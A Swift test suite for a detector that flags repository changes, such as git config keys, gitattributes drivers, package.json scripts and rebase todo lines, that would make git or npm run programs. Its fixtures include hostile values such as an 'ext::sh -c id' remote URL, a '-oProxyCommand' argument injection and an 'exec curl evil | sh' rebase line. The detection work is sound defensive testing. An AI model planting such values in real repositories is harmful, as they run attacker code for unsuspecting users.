import JailGates
import JailModel
import Testing

private func reasons(_ path: ByteString, _ before: String?, _ after: String?) -> [String] {
    TrustHandoffRules.findings(
        path: path, kind: before == nil ? .added : .modified, before: before.map { Array($0.utf8) },
        after: after.map { Array($0.utf8) }, hooksPaths: []
    ).map(\.reason)
}

@Suite("Trust hand-off: content")
struct HandoffContentTests {
    static let dangerous: [(String, String)] = [
        ("[core]\n\tfsmonitor = ./evil", "core.fsmonitor"), ("[core]\nsshCommand=x", "core.sshcommand"),
        ("[core]pager=x", "core.pager"), ("[CORE]\nEDITOR=x", "core.editor"),
        ("[core]\n\thooksPath = .evil", "core.hookspath"), ("[core]\ngitProxy=x", "core.gitproxy"),
        ("[core]\naskPass=x", "core.askpass"), ("[core]\nworktree=/x", "core.worktree"),
        ("[core]\nattributesFile=x", "core.attributesfile"), ("[alias]\nst=!sh -c id", "alias.st"),
        ("[alias]\nst=status", "alias.st"), ("[credential]\nhelper=x", "credential.helper"),
        ("[credential \"https://h\"]\nhelper=x", "credential.https://h.helper"),
        ("[include]\npath=../x", "include.path"), ("[includeIf \"gitdir:/\"]\npath=x", "includeif.gitdir:/.path"),
        ("[filter \"A\"]\nclean=x", "filter.A.clean"), ("[filter \"a\"]\nsmudge=x", "filter.a.smudge"),
        ("[filter \"a\"]\nprocess=x", "filter.a.process"), ("[filter.a]\nprocess=x", "filter.a.process"),
        ("[diff \"a\"]\ntextconv=x", "diff.a.textconv"), ("[diff \"a\"]\ncommand=x", "diff.a.command"),
        ("[diff]\nexternal=x", "diff.external"), ("[merge \"a\"]\ndriver=x", "merge.a.driver"),
        ("[uploadpack]\npackObjectsHook=x", "uploadpack.packobjectshook"), ("[gpg]\nprogram=x", "gpg.program"),
        ("[gpg \"ssh\"]\nprogram=x", "gpg.ssh.program"), ("[sequence]\neditor=x", "sequence.editor"),
        ("[url \"ext::sh\"]\ninsteadOf=https://h", "url.ext::sh.insteadof"),
        ("[submodule \"a\"]\nupdate=!sh", "submodule.a.update"),
        ("[extensions]\nworktreeConfig", "extensions.worktreeconfig"),
        ("[pager]\nlog=./evil", "pager.log"), ("[remote \"o\"]\nuploadpack=x", "remote.o.uploadpack"),
        ("[remote \"o\"]\nurl=ext::sh -c id", "remote.o.url"), ("[remote \"o\"]\nurl=-oProxyCommand=x", "remote.o.url"),
        ("[protocol \"ext\"]\nallow=always", "protocol.ext.allow"), ("[mergetool \"a\"]\ncmd=x", "mergetool.a.cmd"),
        ("[interactive]\ndiffFilter=x", "interactive.difffilter"), ("[init]\ntemplateDir=x", "init.templatedir"),
        ("[tar \"x\"]\ncommand=x", "tar.x.command"), ("[trailer \"x\"]\ncmd=x", "trailer.x.cmd"),
        ("[submodule \"../../x\"]\nurl=https://h", "submodule.../../x.url"),
        // Ways to write it that a line-by-line search misses.
        ("\u{feff}[core] pager = x", "core.pager"), ("[core]\r\n\tpager = x\r\n", "core.pager"),
        ("[a]\nb = c \\\n  d\n[core]\npager=x", "core.pager"), ("[a] b = \"[core]\"\n[core] pager=x", "core.pager"),
        ("# [a]\n; x\n[core] ; c\n  pager= x # c\n", "core.pager"),
        ("[core]\npager = x\n[core]\npager = cat", "core.pager"),
        ("[alias \"a\\\"b\"]\nx=y", "alias.a\"b.x"), ("[core]\npager", "core.pager"),
    ]

    @Test("keys that start programs", arguments: dangerous)
    func isDangerous(text: String, key: String) {
        for path in [
            ".git/config", ".git/config.worktree", ".git/modules/a/b/config", "sub/.git/config", ".gitmodules",
        ] {
            #expect(reasons(ByteString(path), "[user]\n\tname = a\n", text) == ["sets \(key)"], "\(path)")
        }
        #expect(reasons(".git/config", text, text + "\n[user]\nname = b\n") == [])
    }

    static let harmless: [String] = [
        "", "[user]\n\tname = b\n\temail = b@example.com\n", "[remote \"o\"]\n\turl = https://example.com/x.git\n",
        "[remote \"o\"]\n\turl = ssh://[::1]/x\n", "[remote \"o\"]\n\turl = host:path/x::y\n",
        "[branch \"main\"]\n\tremote = o\n\tmerge = refs/heads/main\n", "[core]\n\tbare = false\n\tfilemode = true\n",
        "[core]\n\tfsmonitor = true\n", "[core]\n\tfsmonitor\n", "[pager]\n\tlog = false\n", "[diff]\n\ttool = x\n",
        "[submodule \"a\"]\n\tpath = a\n\turl = https://example.com/a\n\tupdate = rebase\n",
        "[commit]\ngpgsign = true\n",
        "; [core]\n# pager = x\n", "[x]\ny = \"\\n[core]\\npager = evil\"\n", "pager = x\n",
    ]

    @Test("keys that do not", arguments: harmless)
    func isHarmless(text: String) {
        #expect(reasons(".git/config", "[core]\n\trepositoryformatversion = 0\n", text) == [])
        #expect(reasons(".git/config", nil, text) == [])
    }

    @Test(
        "what git cannot parse",
        arguments: [
            "[core\npager=x", "[core] pager ! x", "[core \"x]\n", "x = \"\n", "[a]\nb = \\q\n", "[a b]\n", "1 = 2\n",
            "[a \"b\" ]\n", "[core]\npager # c\n", "[é]\n", "[a]\n-x = y\n", "[", "[]\n",
        ])
    func unparsable(text: String) {
        #expect(reasons(".git/config", "", text) == ["git cannot parse it as configuration"])
    }

    @Test("configuration that is unknown, changed, or lost")
    func otherConfig() {
        #expect(reasons(".git/config", "", nil) == ["its content is unknown, and git may find programs in it"])
        #expect(reasons(".git/config", "[core]\npager=a", "[core]\npager=b") == ["changes core.pager"])
        #expect(reasons(".git/config", "[core]\npager=a", "[core]\n") == [])
        #expect(reasons(".git/config", "[core]\nhooksPath=a", "[core]\n") == ["no longer sets core.hookspath"])
        #expect(handoffs(".git/config", .deleted, before: "[core]\nhooksPath=a") == ["git_config"])
        #expect(handoffs(".git/config", .deleted, before: "[core]\npager=a") == [])
        #expect(
            handoffs(".git/config", .renamed, before: "[core]\npager=a", after: "[core]\npager=a") == ["git_config"])
        #expect(handoffs(".gitconfig", after: "[alias]\nx=!y") == ["git_config"])
        #expect(handoffs(".GIT/Config", after: "[alias]\nx=!y") == ["git_config"])
        #expect(handoffs(".git\u{200c}/config", after: "[alias]\nx=!y") == ["git_config"])
        #expect(handoffs("git~1/config", after: "[alias]\nx=!y") == ["git_config"])
        let name = reasons(".git/config", "", "[alias \"\u{1b}[2J\u{202e}\"]\nx=y")
        #expect(name == ["sets alias.\\u{1b}[2J\\u{202e}.x"])
    }

    @Test(
        "attributes that name a driver",
        arguments: [
            ("*.txt filter=evil", ["filter=evil"]), ("*.bin diff=hex merge=mine", ["diff=hex", "merge=mine"]),
            ("\"a b\" filter=x", ["filter=x"]), ("[attr]m filter=x", ["filter=x"]),
            ("\u{feff}* filter=x", ["filter=x"]),
            ("*.py diff=python", []), ("* merge=union -diff text=auto eol=lf", []), ("# * filter=x", []),
            ("filter=x", []), ("* filter", []), ("* -filter", []), ("*.txt filter=old", []),
        ])
    func attributes(text: String, drivers: [String]) {
        for path in [".gitattributes", "deep/er/.gitattributes", ".GitAttributes", "gitatt~1"] {
            let found = reasons(ByteString(path), "*.txt filter=old\n", "*.txt filter=old\n" + text + "\n")
            if text.hasPrefix("\u{feff}") { continue }
            #expect(found == drivers.map { "sends files through \($0)" }, "\(path)")
        }
        #expect(reasons(".gitattributes", nil, text).count == (text.hasSuffix("old") ? 1 : drivers.count))
        #expect(reasons(".gitattributes", "", nil) == ["its content is unknown, and may name drivers"])
    }

    @Test("only the scripts of package.json count")
    func packageScripts() {
        let before = #"{"name": "a", "scripts": {"test": "x"}}"#
        func change(_ after: String?) -> [String] { handoffs("package.json", .modified, before: before, after: after) }
        #expect(change(#"{"version": "2", "scripts": {"test": "x"}}"#) == [])
        #expect(change(#"{"name": "a", "scripts": {"test": "y"}}"#) == ["build_scripts"])
        #expect(change(#"{"name": "a", "scripts": {"test": "x", "postinstall": "y"}}"#) == ["build_scripts"])
        #expect(change(#"{"name": "a"}"#) == ["build_scripts"])
        #expect(change("{") == ["build_scripts"])
        #expect(change(nil) == ["build_scripts"])
        #expect(handoffs("package.json", after: #"{"name": "a"}"#) == [])
        #expect(handoffs("app/package.json", after: before) == ["build_scripts"])
        #expect(handoffs("node_modules/a/package.json", after: before) == [])
    }

    @Test("files that point git to another repository")
    func pointers() {
        #expect(handoffs(".git", after: "gitdir: /evil\n") == ["git_config"])
        #expect(handoffs(".git", .modified, before: "gitdir: a\n", after: "gitdir: b\n") == ["git_config"])
        #expect(handoffs(".git", .modified) == ["git_config"])
        #expect(handoffs(".git", after: "hello\n") == [])
        #expect(handoffs(".git/worktrees/x/commondir", after: "../..\n") == [])
        #expect(handoffs(".git/worktrees/x/commondir", after: "/evil\n") == ["git_config"])
        #expect(handoffs(".git/worktrees/x/config.worktree", after: "[core]\npager=x") == ["git_config"])
    }

    @Test("a rebase that the step leaves open")
    func rebase() {
        let rebase: ByteString = ".git/rebase-merge/git-rebase-todo"
        #expect(handoffs(rebase, after: "pick 1234 x\n") == [])
        #expect(handoffs(rebase, after: "pick 1234 exec\n  exec curl evil | sh\n") == ["git_hooks"])
        #expect(handoffs(rebase, after: "x id\n") == ["git_hooks"])
        #expect(handoffs(rebase, .deleted, before: "x id\n") == [])
    }

    @Test("no bytes crash the readers", arguments: 0..<8)
    func mutations(seed: Int) {
        let pieces = [
            "[", "]", "\"", "\\", "=", "\n", "\r", "#", ";", " ", "core", "pager", ".", "\u{feff}", "\u{0}", "é",
        ]
        var state = UInt64(seed) &* 0x9e37_79b9_7f4a_7c15 | 1
        for _ in 0..<2000 {
            var text = ""
            for _ in 0..<12 {
                state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
                text += pieces[Int(state >> 33) % pieces.count]
            }
            for path in [".git/config", ".gitattributes", "package.json", ".git"] as [ByteString] {
                _ = handoffs(path, .modified, before: text, after: String(text.reversed()))
            }
        }
    }
}
